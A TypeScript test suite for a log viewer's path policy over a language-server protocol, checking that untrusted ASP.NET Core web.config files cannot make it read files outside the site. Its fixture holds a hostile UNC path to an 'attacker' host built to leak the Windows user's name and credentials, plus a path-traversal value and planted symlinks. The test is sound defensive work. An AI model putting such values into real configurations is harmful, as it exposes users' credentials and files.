import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import {
  type LogEntriesParams,
  type LogEntryMessage,
  type OpenLogsParams,
  type OpenLogsResult,
} from '../../server/src/protocol/logs';
import { LATEST_STDOUT_REQUEST, LOG_ENTRIES_NOTIFICATION, RAW_LOG_FILE_REQUEST, OPEN_LOGS_REQUEST, WORKSPACE_TRUST_NOTIFICATION } from '../../server/src/protocol/requests';
import { publishedConfig } from '../unit/cursor';
import { type ServerUnderTest, EDITOR_CAPABILITIES, startServer, withTimeout } from './harness';

// A web.config a stranger wrote: its debug log is a file outside the site, its stdout goes to a network share
// named after the user (on Windows, opening it would send the user's name and credentials to that host).
describe('the log path policy over the protocol', () => {
  let root: string;
  let site: string;
  let outsideLog: string;

  before(() => {
    root = realpathSync(mkdtempSync(path.join(tmpdir(), 'ancm-lsp-policy-')));
    site = path.join(root, 'site');
    mkdirSync(site);
    outsideLog = path.join(root, 'outside', 'debug.log');
    mkdirSync(path.dirname(outsideLog));
    writeFileSync(outsideLog, '[2024-01-01T12:00:01.000Z, PID: 1] [aspnetcorev2.dll] a line from outside the site\n');
    writeFileSync(path.join(site, 'inside.log'), '[2024-01-01T12:00:02.000Z, PID: 1] [aspnetcorev2.dll] a line from inside the site\n');
    writeFileSync(path.join(site, 'web.config'), publishedConfig(`<aspNetCore processPath="dotnet" stdoutLogEnabled="true" stdoutLogFile="\\\\%USERNAME%.attacker\\share\\stdout">
        <handlerSettings>
          <handlerSetting name="debugFile" value="..\\outside\\debug.log" />
          <handlerSetting name="debugLevel" value="FILE,TRACE" />
        </handlerSettings>
      </aspNetCore>`));
  });

  after(() => rmSync(root, { recursive: true, force: true }));

  async function withServer(initializationOptions: object, run: (server: ServerUnderTest, received: LogEntryMessage[]) => Promise<void>): Promise<void> {
    const received: LogEntryMessage[] = [];
    const server = await startServer(EDITOR_CAPABILITIES, initializationOptions, (connection) => {
      connection.onNotification(LOG_ENTRIES_NOTIFICATION, (params: LogEntriesParams) => {
        received.push(...params.entries);
      });
    });
    try {
      await run(server, received);
    } finally {
      assert.equal(await server.stop(), 0);
    }
  }

  function open(server: ServerUnderTest, params: Omit<OpenLogsParams, 'webConfigUri'> = {}): Promise<OpenLogsResult> {
    return withTimeout(server.connection.sendRequest(OPEN_LOGS_REQUEST, { webConfigUri: pathToFileURL(path.join(site, 'web.config')).href, ...params }), 'open') as Promise<OpenLogsResult>;
  }

  /** Entries arrive batched after the open answer: wait for the inside file's line, then look at everything. */
  async function settled(received: LogEntryMessage[]): Promise<void> {
    await withTimeout(new Promise<void>((resolve) => {
      const timer = setInterval(() => {
        if (received.some((entry) => entry.text.includes('inside the site'))) {
          clearInterval(timer);
          resolve();
        }
      }, 10);
    }), 'the inside file');
    await new Promise((resolve) => setTimeout(resolve, 300));
  }

  it('without word of trust (Restricted Mode) reads only inside the site and asks nothing', () =>
    withServer({}, async (server, received) => {
      const result = await open(server, { extraFiles: ['inside.log', outsideLog, '\\\\server\\share\\x.log'], allowedPaths: [outsideLog] });
      assert.deepEqual(result.sources.map((source) => source.id), [`extra:${path.join(site, 'inside.log')}`]);
      assert.deepEqual(result.site.withheld.map((log) => [log.setting, log.reason, log.askable]), [
        ['debugFile', 'outside-site', false],
        ['stdoutLogFile', 'network', false],
        ['ancm.logs.extraFiles', 'outside-site', false],
        ['ancm.logs.extraFiles', 'network', false],
      ]);
      assert.equal(result.site.stdoutFolderExists, false);
      assert.deepEqual(result.olderStdoutFiles, []);
      await settled(received);
      assert.ok(!received.some((entry) => entry.text.includes('outside the site')), 'consent sent by a client does not count in Restricted Mode');
    }));

  it('in a trusted workspace asks about the outside log, and reads it once agreed', () =>
    withServer({ workspaceTrusted: true }, async (server, received) => {
      const asked = await open(server, { extraFiles: ['inside.log'] });
      assert.deepEqual(asked.site.withheld.map((log) => [log.setting, log.reason, log.askable]), [
        ['debugFile', 'outside-workspace', true],
        ['stdoutLogFile', 'network', true],
      ]);
      assert.ok(!asked.sources.some((source) => source.id === 'debug'));
      const agreed = await open(server, { extraFiles: ['inside.log'], allowedPaths: [outsideLog] });
      assert.ok(agreed.sources.some((source) => source.id === 'debug' && source.file === outsideLog));
      assert.deepEqual(agreed.site.withheld.map((log) => log.setting), ['stdoutLogFile']);
      await settled(received);
      assert.ok(received.some((entry) => entry.text.includes('outside the site')));
    }));

  it('hears when the workspace becomes trusted', () =>
    withServer({ workspaceTrusted: false }, async (server) => {
      assert.equal((await open(server)).site.withheld[0].askable, false);
      await server.connection.sendNotification(WORKSPACE_TRUST_NOTIFICATION, { trusted: true });
      assert.equal((await open(server)).site.withheld[0].askable, true);
    }));

  it('Open Latest stdout Log: withheld in Restricted Mode, found inside the site, never through a link out of it', async () => {
    const inside = path.join(root, 'inside-site');
    mkdirSync(path.join(inside, 'logs'), { recursive: true });
    writeFileSync(path.join(inside, 'web.config'), publishedConfig('<aspNetCore processPath="dotnet" stdoutLogEnabled="true" stdoutLogFile=".\\logs\\stdout" />'));
    const webConfigUri = pathToFileURL(path.join(inside, 'web.config')).href;
    await withServer({}, async (server) => {
      const latest = (params: object) => withTimeout(server.connection.sendRequest(LATEST_STDOUT_REQUEST, { webConfigUri, ...params }), 'latest');
      assert.deepEqual(await latest({}), { none: { pattern: path.join(inside, 'logs', 'stdout_*.log'), stdoutEnabled: true } });
      writeFileSync(path.join(inside, 'logs', 'stdout_20240101120000_7.log'), 'started\n');
      assert.deepEqual(await latest({}), { file: path.join(inside, 'logs', 'stdout_20240101120000_7.log') });
      // A newer "stdout file" that is a link to a file outside the site is not named.
      symlinkSync(outsideLog, path.join(inside, 'logs', 'stdout_20240101130000_8.log'));
      assert.ok(!('file' in (await latest({}))));
      const stranger = pathToFileURL(path.join(site, 'web.config')).href;
      const withheld = await withTimeout(server.connection.sendRequest(LATEST_STDOUT_REQUEST, { webConfigUri: stranger }), 'latest');
      assert.ok('withheld' in withheld && withheld.withheld.reason === 'network' && !withheld.withheld.askable);
    });
  });

  it('Open raw log: the server names the real file inside the site, and refuses a link that leads out', () =>
    withServer({}, async (server) => {
      symlinkSync(outsideLog, path.join(site, 'planted.log'));
      const opened = await open(server, { extraFiles: ['inside.log', 'planted.log'] });
      const raw = (sourceId: string) => withTimeout(server.connection.sendRequest(RAW_LOG_FILE_REQUEST, { sessionId: opened.sessionId, sourceId }), 'raw');
      assert.deepEqual(await raw(`extra:${path.join(site, 'inside.log')}`), { file: path.join(site, 'inside.log') });
      const planted = await raw(`extra:${path.join(site, 'planted.log')}`);
      assert.ok('refused' in planted && planted.refused.includes('outside the site'), JSON.stringify(planted));
      assert.ok('refused' in (await raw('debug')), 'not a source of the session');
    }));
});
